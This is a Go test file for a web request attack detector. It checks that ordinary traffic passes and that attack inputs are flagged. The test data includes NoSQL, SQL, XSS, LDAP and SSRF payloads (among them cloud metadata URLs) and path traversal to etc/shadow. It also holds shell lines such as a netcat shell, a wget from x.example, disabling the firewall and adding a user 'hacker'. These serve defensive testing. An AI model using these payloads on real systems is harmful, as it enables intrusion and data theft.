package detect

import (
	"context"
	"crypto/rand"
	"testing"
)

// qaBenign are requests black-box QA sent through the demo server that were answered
// 403; every one is ordinary traffic and must pass Inspect.
var qaBenign = []struct {
	name string
	t    Target
}{
	{"maths in a query", Target{Method: "GET", Path: "/calc", RawQuery: "expr=1%2B1%3D2+and+3%3C5"}},
	{"maths in a query, literal", Target{Method: "GET", Path: "/calc", RawQuery: "expr=1+1=2 and 3<5"}},
	{"markdown with a bound SQL query", Target{Method: "POST", Path: "/posts", ContentType: "application/json",
		Body: []byte(`{"body":"Use ` + "`SELECT name FROM users WHERE id = ?`" + ` with a bound parameter to avoid injection."}`)}},
	{"markdown with a bound SQL query, text", Target{Method: "POST", Path: "/posts", ContentType: "text/plain",
		Body: []byte("Use `SELECT name FROM users WHERE id = ?` with a bound parameter to avoid injection.")}},
	{"prose about DROP TABLE", Target{Method: "POST", Path: "/posts", ContentType: "application/json",
		Body: []byte(`{"body":"The SQL statement 'DROP TABLE' deletes a table"}`)}},
	{"prose about DROP TABLE, query", Target{Method: "GET", Path: "/search", RawQuery: "q=The+SQL+statement+%27DROP+TABLE%27+deletes+a+table"}},
	{"CMS HTML", Target{Method: "POST", Path: "/pages", ContentType: "application/json",
		Body: []byte(`{"html":"<p>Welcome to our <b>shop</b>. <a href=\"/contact\">Contact us</a> <img src=\"/logo.png\" alt=\"logo\"></p>"}`)}},
	{"Windows hosts path", Target{Method: "POST", Path: "/files", ContentType: "application/json",
		Body: []byte(`{"path":"C:\\Windows\\System32\\drivers\\etc\\hosts"}`)}},
	{"localhost link in JSON data", Target{Method: "POST", Path: "/bookmarks", ContentType: "application/json",
		Body: []byte(`{"links":["http://localhost:8080/api/v1/users?id=5"]}`)}},
	{"localhost link in a JSON field", Target{Method: "POST", Path: "/notes", ContentType: "application/json",
		Body: []byte(`{"text":"run it and open http://127.0.0.1:3000/docs in a browser"}`)}},
	{"node snippet", Target{Method: "POST", Path: "/snippets", ContentType: "application/json",
		Body: []byte(`{"snippet":"` + "```js\\nconst fs = require('fs');\\nconst data = fs.readFileSync('config.json', 'utf8');\\nconsole.log(JSON.parse(data));\\n```" + `"}`)}},
	{"tail and grep in chat", Target{Method: "POST", Path: "/chat", ContentType: "application/json",
		Body: []byte(`{"message":"try ` + "`tail -f /var/log/nginx/access.log | grep 404`" + ` and tell me what you see"}`)}},
	{"resolv.conf in prose", Target{Method: "POST", Path: "/chat", ContentType: "application/json",
		Body: []byte(`{"message":"Check /etc/resolv.conf for the nameserver entries."}`)}},
	{"PHP in a forum post", Target{Method: "POST", Path: "/forum", ContentType: "application/json",
		Body: []byte(`{"post":"In PHP: <?php echo \"hi\"; ?>"}`)}},
	{"PHP in a forum post, form", Target{Method: "POST", Path: "/forum", ContentType: "application/x-www-form-urlencoded",
		Body: []byte(`post=In+PHP%3A+%3C%3Fphp+echo+%22hi%22%3B+%3F%3E`)}},
}

func TestQABenignRequests(t *testing.T) {
	d := newTestDetector(t)
	for _, tc := range qaBenign {
		t.Run(tc.name, func(t *testing.T) {
			tgt := tc.t
			r := d.Inspect(context.Background(), &tgt)
			if r.IsThreat {
				t.Fatalf("flagged at %s: score %.2f %+v", r.Context, r.ThreatScore, r.Threats)
			}
		})
	}
}

// TestRandomBytesNotFlagged posts binary noise as a text body: whatever the engine does
// before this step, the detector itself must not read an attack into it.
func TestRandomBytesNotFlagged(t *testing.T) {
	d := newTestDetector(t)
	for i := range 8 {
		b := make([]byte, 50<<10)
		if _, err := rand.Read(b); err != nil {
			t.Fatal(err)
		}
		for _, ct := range []string{"text/plain", "", "application/octet-stream"} {
			r := d.Inspect(context.Background(), &Target{Method: "POST", Path: "/upload", ContentType: ct, Body: b})
			if r.IsThreat {
				t.Fatalf("run %d, %q: flagged at %s: %+v", i, ct, r.Context, r.Threats)
			}
		}
	}
}

// qaNoSQL are operator-object injections in JSON bodies that QA found missed.
var qaNoSQL = []string{
	`{"user":"admin","password":{"$ne":null}}`,
	`{"username":{"$gt":""},"password":{"$gt":""}}`,
	`{"$where":"this.password.length > 0"}`,
	`{"$where":"1"}`,
	`{"a":{"$regex":".*"}}`,
	`{"user":"admin","password":{"$regex":"^a"}}`,
	`{"user":{"$in":["admin","root"]},"password":{"$exists":true}}`,
	`{"filter":{"$or":[{"a":1},{"b":2}]}}`,
	`{"q":{"$expr":{"$eq":["$a","$b"]}}}`,
	`{"items":{"$elemMatch":{"qty":{"$gte":5}}}}`,
	`{"login":{"$nin":[]},"pin":{"$lt":99999}}`,
	`{"user":"x","password":{"$not":{"$eq":"y"}}}`,
}

func TestQANoSQLOperatorObjects(t *testing.T) {
	d := newTestDetector(t)
	for _, body := range qaNoSQL {
		t.Run(body, func(t *testing.T) {
			// Declared JSON, undeclared (parsed by shape) and mislabelled as text.
			for _, ct := range []string{"application/json", "", "text/plain"} {
				r := d.Inspect(context.Background(), &Target{Method: "POST", Path: "/login", ContentType: ct, Body: []byte(body)})
				if !r.IsThreat || r.Category != "nosql" {
					t.Fatalf("%q: not caught as nosql: %+v", ct, r)
				}
			}
		})
	}
}

// qaDollarBenign: a dollar sign in prose, prices, shell variables and JSON keys that
// are not Mongo operators must not read as NoSQL injection.
var qaDollarBenign = []string{
	`{"price":"$5 or less","note":"costs $gt 3 dollars, I mean more than $3"}`,
	`{"text":"use $in and $regex in your Mongo queries"}`,
	`{"$schema":"http://json-schema.org/draft-07/schema#","type":"object"}`,
	`{"$id":"person","$ref":"#/definitions/a"}`,
	`{"vars":{"$HOME":"/home/me"}}`,
	`{"price":{"amount":5,"currency":"$"}}`,
}

func TestQADollarBenign(t *testing.T) {
	d := newTestDetector(t)
	for _, body := range qaDollarBenign {
		t.Run(body, func(t *testing.T) {
			r := d.Inspect(context.Background(), &Target{Method: "POST", Path: "/x", ContentType: "application/json", Body: []byte(body)})
			if r.IsThreat {
				t.Fatalf("flagged at %s: %+v", r.Context, r.Threats)
			}
		})
	}
}

// TestSSRFByFieldName: an internal URL is SSRF in a query value and in body fields
// named for a URL to fetch; metadata addresses, raw schemes and obfuscated hosts are
// SSRF in any field.
func TestSSRFByFieldName(t *testing.T) {
	d := newTestDetector(t)
	cases := []struct {
		name   string
		t      Target
		threat bool
	}{
		{"query", Target{Method: "GET", Path: "/fetch", RawQuery: "u=http://localhost:8080/admin"}, true},
		{"json url field", Target{Method: "POST", Path: "/hooks", ContentType: "application/json", Body: []byte(`{"callbackUrl":"http://127.0.0.1:6379/"}`)}, true},
		{"json webhook", Target{Method: "POST", Path: "/hooks", ContentType: "application/json", Body: []byte(`{"webhook":{"target":"http://192.168.0.1/admin"}}`)}, true},
		{"json redirect_uri", Target{Method: "POST", Path: "/oauth", ContentType: "application/json", Body: []byte(`{"redirect_uri":"http://localhost/"}`)}, true},
		{"form next", Target{Method: "POST", Path: "/login", ContentType: "application/x-www-form-urlencoded", Body: []byte(`user=a&next=http%3A%2F%2Flocalhost%2Fadmin`)}, true},
		{"json metadata anywhere", Target{Method: "POST", Path: "/x", ContentType: "application/json", Body: []byte(`{"links":["http://169.254.169.254/latest/meta-data/"]}`)}, true},
		{"json gopher anywhere", Target{Method: "POST", Path: "/x", ContentType: "application/json", Body: []byte(`{"notes":"gopher://127.0.0.1:6379/_FLUSHALL"}`)}, true},
		{"json obfuscated anywhere", Target{Method: "POST", Path: "/x", ContentType: "application/json", Body: []byte(`{"links":["http://0x7f000001/"]}`)}, true},
		{"json links data", Target{Method: "POST", Path: "/x", ContentType: "application/json", Body: []byte(`{"links":["http://localhost:8080/api/v1/users?id=5","http://10.0.0.5:3000/"]}`)}, false},
		{"json url field, public", Target{Method: "POST", Path: "/x", ContentType: "application/json", Body: []byte(`{"url":"https://example.com/a?b=c"}`)}, false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			tgt := tc.t
			r := d.Inspect(context.Background(), &tgt)
			if r.IsThreat != tc.threat {
				t.Fatalf("threat %v, want %v: %+v", r.IsThreat, tc.threat, r)
			}
			if tc.threat && r.Category != "ssrf" {
				t.Fatalf("category %q: %+v", r.Category, r.Threats)
			}
		})
	}
}

func TestURLField(t *testing.T) {
	for _, tc := range []struct {
		name string
		want bool
	}{
		{"url", true}, {"URL", true}, {"callbackUrl", true}, {"redirect_uri", true}, {"imageURL", true},
		{"next", true}, {"return-to", true}, {"webhook", true},
		{"links", false}, {"hurl", false}, {"curly", false}, {"nextel", false}, {"body", false}, {"", false},
	} {
		if got := urlField(tc.name); got != tc.want {
			t.Errorf("urlField(%q) = %v, want %v", tc.name, got, tc.want)
		}
	}
}

func TestPrintableRuns(t *testing.T) {
	noise := "\x00\x01\xff\xfe" + "abc" + "\x02\x03" + "<script>alert(1)</script>" + "\x04"
	if got := printableRuns(noise); got != "<script>alert(1)</script>" {
		t.Fatalf("got %q", got)
	}
	if looksBinaryText("plain text that is long enough to be judged as a window of a body, surely") {
		t.Fatal("text judged binary")
	}
	// An attack embedded in binary noise is still found.
	d := newTestDetector(t)
	b := make([]byte, 4096)
	for i := range b {
		b[i] = byte(i*7919%251) | 0x80
	}
	copy(b[2000:], "<script>alert(document.cookie)</script>")
	r := d.Inspect(context.Background(), &Target{Method: "POST", Path: "/u", ContentType: "text/plain", Body: b})
	if !r.IsThreat || r.Category != "xss" {
		t.Fatalf("payload in noise missed: %+v", r)
	}
}

// TestProtocolAndFilterProbes covers the request-level shapes and LDAP/XPath probes
// added in the second quality round, each with a look-alike that must pass.
func TestProtocolAndFilterProbes(t *testing.T) {
	d := newTestDetector(t)
	cases := []struct {
		where, in string
		threat    bool
	}{
		{"body:text", "x\r\nGET /admin HTTP/1.1\r\nHost: internal", true},
		{"query:q", "POST https://example.org/api HTTP/1.0", true},
		{"body:text", "The request line looks like GET /index.html HTTP/1.1 followed by headers.", false},
		{"query:u", "unix:/run/app.sock|http://backend/", true},
		{"query:u", "see unix: the book, or http://example.org/", false},
		{"header:Range", "bytes=0-,1-1,2-2,3-3,4-4,5-5,6-6", true},
		{"header:Range", "bytes=0-1023", false},
		{"body:text", "Content-Disposition: form-data; name=\"a;b\"; filename=\"x\"", true},
		{"body:text", "Content-Disposition: form-data; name=\"caf&eacute;\"; filename=\"menu.pdf\"", false},
		{"body:text", "Content-Disposition: form-data; name=\"doc\"; filename=\"shell.p\\h\\p\"", true},
		{"path", "/backup/site.sql", true},
		{"path", "/keys/privkey.pem", true},
		{"path", "/docs/sql-tutorial", false},
		{"path", "/static/app.db.js", false},
		{"query:q", "<esi:debug/>", true},
		{"query:user", "admin*)(userPassword=*", true},
		{"query:q", "x = requests.get(url + \"?user=admin*)(mail=a*\")", true},
		{"query:filter", "(&(objectClass=user)(sAMAccountName=bob))", true},
		{"query:q", "(see note) and (another note)", false},
		{"query:q", "*)*", true},
		{"query:q", "*|", true},
		{"query:q", "(*)", true},
		{"query:q", "//*", true},
		{"query:q", "5 * (3 + 2)", false},
		{"query:q", "*", false},
		{"query:q", "a*b", false},
	}
	for _, tc := range cases {
		t.Run(tc.in, func(t *testing.T) {
			r := d.Detect(context.Background(), tc.in, tc.where)
			if r.IsThreat != tc.threat {
				t.Fatalf("threat %v, want %v: %+v", r.IsThreat, tc.threat, r.Threats)
			}
		})
	}
}

func TestMultipartOddNames(t *testing.T) {
	d := newTestDetector(t)
	body := "--b\r\nContent-Disposition: form-data; name=\"a;b\"\r\n\r\nhello\r\n--b--\r\n"
	r := d.Inspect(context.Background(), &Target{Method: "POST", Path: "/u", ContentType: "multipart/form-data; boundary=b", Body: []byte(body)})
	if !r.IsThreat || r.Category != "protocol" {
		t.Fatalf("odd part name not flagged: %+v", r)
	}
	ok := "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"report 2024.pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\r\n--b--\r\n"
	if r := d.Inspect(context.Background(), &Target{Method: "POST", Path: "/u", ContentType: "multipart/form-data; boundary=b", Body: []byte(ok)}); r.IsThreat {
		t.Fatalf("plain upload flagged: %+v", r)
	}
}

// TestRound2CodeAndShell covers the code-injection and command-injection shapes added
// in the second quality round, with look-alikes from code snippets and chat.
func TestRound2CodeAndShell(t *testing.T) {
	d := newTestDetector(t)
	cases := []struct {
		where, in string
		threat    bool
	}{
		{"query:q", "$f(115).$f(121)", true},
		{"query:q", "(['passthru'])[0]('id');", true},
		{"query:q", "posix_getpwuid(0)", true},
		{"query:q", "${'cmd'}", true},
		{"query:q", "while(!0);", true},
		{"query:q", "console.warn()", true},
		{"query:q", `process["mainModule"]`, true},
		{"body:text", "Content-Disposition: form-data; name=\"f\"; filename=\"cmd. php\"", true},
		{"query:sort", " ORDER BY 7", true},
		{"query:q", "zz' regexp 'a", true},
		{"query:id", "-5 union all select", true},
		{"query:q", "Order by date, newest first", false},
		{"query:q", "the \"LIKE\" button", false},
		{"query:q", "O'Reilly - 'Learning Go'", false},
		{"query:file", "??%5c??%5cetc%5cshadow", true},
		{"query:file", ".?\\.?\\boot.ini", true},
		{"query:q", "Keep notes, receipts, etc. Passwords go in the vault.", false},
		{"body:json:path", `C:\Windows\System32\drivers\etc\hosts`, false},
		{"query:q", "  onpointerover= alert(1)", true},
		{"query:q", "document /*a*/ . cookie", true},
		{"query:u", "jav&tab;ascript&colon;alert(1)", true},
		{"query:q", "self['al'+'ert'](1)", true},
		{"query:q", "the online= flag and the document.cookie API", false},
		{"body:text", "items[i+1](x) calls the next handler", false},
		{"query:id", "7' ORDER BY 1,2,3-- -", true},
		{"query:q", "or true--", true},
		{"query:q", "select @@hostname;", true},
		{"query:q", "true or false", false},
		{"body:text", "select current_user; returns the role you are logged in as", false},
		{"query:q", `"python" and "django"`, false},
		{"query:q", "Rock 'n' roll or jazz", false},
		{"query:q", "it's ok' and rest", false},
		{"query:q", "<svg onload[x]=alert(1)>", true},
		{"query:q", "<scr ipt>alert(1)</scr ipt>", true},
		{"query:q", "confirm(1)>//", true},
		{"body:text", "Call alert(msg) when the form is invalid.", false},
		{"query:q", `@{[ system "id" ]}`, true},
		{"query:q", `Process.spawn("id")`, true},
		{"query:q", "eval($_x)", true},
		{"header:X-File", "/tmp/sess_0123456789abcdef", true},
		{"body:text", "Never call eval on user input; prefer JSON.parse.", false},
		{"body:text", "PHP keeps sessions in files named sess_ followed by the id.", false},
		{"query:q", "$[7*7]", true},
		{"query:q", "' id", true},
		{"query:q", "sh$IFS -c whoami", true},
		{"query:q", "costs $[5] per unit", false},
		{"query:q", "'s id", false},
		{"query:q", "$where: 'sleep(100)'", true},
		{"query:q", `x"}], $or: [{"a":1}]`, true},
		{"query:page", "indexhttp://evil.example/x.txt?", true},
		{"query:q", "is http://example.org/faq.html? the right page", false},
		{"body:text", "Use the $where operator sparingly in MongoDB.", false},
		{"query:file", "../../.bash_history", true},
		{"query:q", "how to clear the shell history", false},
		{"query:q", "nc -nlvp 9001 -e /bin/bash", true},
		{"query:q", `zsh -c "wget http://x.example/a.sh"`, true},
		{"query:q", "| netsh advfirewall set allprofiles state off", true},
		{"query:q", "x & net user hacker P@ss /add", true},
		{"query:host", "ipconfig /all", true},
		{"header:X-Forwarded-Host", "whoami", true},
		{"body:text", "In a loop like while (true) { poll(); } you must sleep.", false},
		{"body:text", "Template literals look like `${name}` in JavaScript.", false},
		{"body:text", "$('#menu').toggle() hides the menu in jQuery.", false},
		{"body:text", "call console.log(value) to debug it", false},
		{"query:q", "net user growth this quarter", false},
		{"query:q", "net use of funds", false},
		{"query:q", "exec (", false},
		{"body:json:message", "who am I, really?", false},
		{"body:text", "the upload form accepts photo.png and notes.txt", false},
	}
	for _, tc := range cases {
		t.Run(tc.in, func(t *testing.T) {
			r := d.Detect(context.Background(), tc.in, tc.where)
			if r.IsThreat != tc.threat {
				t.Fatalf("threat %v, want %v: %+v", r.IsThreat, tc.threat, r.Threats)
			}
		})
	}
}
